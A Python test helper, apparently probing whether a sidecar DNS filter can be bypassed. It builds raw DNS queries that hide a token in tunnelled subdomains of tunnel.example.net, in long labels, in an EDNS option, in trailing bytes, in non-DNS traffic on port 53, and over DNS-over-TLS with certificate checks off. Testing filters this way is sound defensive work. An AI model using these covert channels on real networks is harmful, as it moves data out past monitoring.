"""DNS: questions to any server, and what can be hidden in them; RFC 1035."""

import socket
import ssl
import struct
from ipaddress import ip_address

from sidecar.addresses import SYNTHETIC_V4, SYNTHETIC_V6
from tests.live.bypass.probes.streams import connect, family_of, heard

_CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def question(name: str, kind: int, *, class_: int = 1, flags: int = 0x0100, count: int = 1, tail: bytes = b"") -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split(".") if label) + b"\0"
    asked = labels + struct.pack("!HH", kind, class_)
    return struct.pack("!HHHHHH", 0x1234, flags, count, 0, 0, 1 if tail else 0) + asked * count + tail


def read(reply: bytes) -> str:
    """The code, and whether there is an answer: ``synthetic``, an address, a record, or ``empty``."""
    (_, flags, questions, answers) = struct.unpack_from("!HHHH", reply)
    code, at = _CODES.get(flags & 15, str(flags & 15)), 12
    if flags & 0x0200:
        return f"{code} truncated"
    for _ in range(questions):
        at = _past_name(reply, at) + 4
    if not answers:
        return f"{code} empty"
    at = _past_name(reply, at)
    kind, _, _, size = struct.unpack_from("!HHIH", reply, at)
    data = reply[at + 10 : at + 10 + size]
    if kind in (1, 28):
        address = ip_address(data)
        synthetic = address in (SYNTHETIC_V4 if address.version == 4 else SYNTHETIC_V6)
        return f"{code} {'synthetic' if synthetic else address}"
    return f"{code} HINFO" if kind == 13 else f"{code} record"


def _past_name(message: bytes, at: int) -> int:
    while size := message[at]:
        if size >= 0xC0:
            return at + 2
        at += 1 + size
    return at + 1


def ask_datagram(server: str, message: bytes, *, seconds: float = 5) -> str:
    """Asks up to three times, as every resolver does: a datagram may be lost."""
    for last in (False, False, True):
        with socket.socket(family_of(server), socket.SOCK_DGRAM) as sock:
            sock.settimeout(seconds)
            sock.connect((server, 53))
            sock.send(message)
            try:
                return read(sock.recv(4096))
            except TimeoutError:
                if last:
                    raise
    raise AssertionError("unreachable")


def ask(token: str, server: str, name: str, kind: int, class_: int = 1, flags: int = 0x0100, count: int = 1) -> str:
    """*name* with ``{token}`` in it, by UDP."""
    return ask_datagram(server, question(name.format(token=token), kind, class_=class_, flags=flags, count=count))


def ask_by_tcp(token: str, server: str, name: str, kind: int) -> str:
    message = question(name.format(token=token), kind)
    with connect(server, 53) as sock:
        sock.sendall(struct.pack("!H", len(message)) + message)
        data = sock.recv(4096)
        return read(data[2:]) if len(data) > 14 else "closed"


def address_of(_: str, name: str) -> str:
    """As programs ask, by way of the system's resolver."""
    return socket.gethostbyname(name)


def many(token: str, server: str, count: int) -> str:
    """A tunnel: *count* names with a piece of data each."""
    said = {ask(token, server, f"{n:04x}q7zk3vx9{{token}}m2w8y.tunnel.example.net", 1) for n in range(count)}
    return ", ".join(sorted(said))


def long_labels(token: str, server: str) -> str:
    """A name as long as it may be."""
    return ask(token, server, f"{token}{'a' * 40}.{'b' * 60}.{'c' * 60}.tunnel.example.net", 1)


def option(token: str, server: str) -> str:
    """Data in an EDNS option, behind a question that is fine (RFC 6891, section 6.1.2)."""
    data = struct.pack("!HH", 65001, len(token)) + token.encode()
    tail = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(data)) + data
    return ask_datagram(server, question("api.example.com", 1, tail=tail))


def behind(token: str, server: str) -> str:
    """Data behind the end of the message."""
    return ask_datagram(server, question("api.example.com", 1) + token.encode(), seconds=1)


def no_dns(token: str, server: str) -> str:
    """Port 53, but no DNS."""
    with socket.socket(family_of(server), socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        sock.connect((server, 53))
        sock.send(token.encode())
        return sock.recv(100).decode("latin-1")


def no_dns_by_tcp(token: str, server: str) -> str:
    with connect(server, 53) as sock:
        sock.settimeout(0.7)
        sock.sendall(f"GET /{token} HTTP/1.1\r\nHost: {server}\r\n\r\n".encode())
        return heard(sock)


def over_tls(token: str, server: str) -> str:
    """DNS over TLS (RFC 7858)."""
    context = ssl._create_unverified_context()
    message = question(f"{token}.example.net", 1)
    with context.wrap_socket(connect(server, 853)) as sock:
        sock.sendall(struct.pack("!H", len(message)) + message)
        return sock.recv(200).decode("latin-1") or "closed"
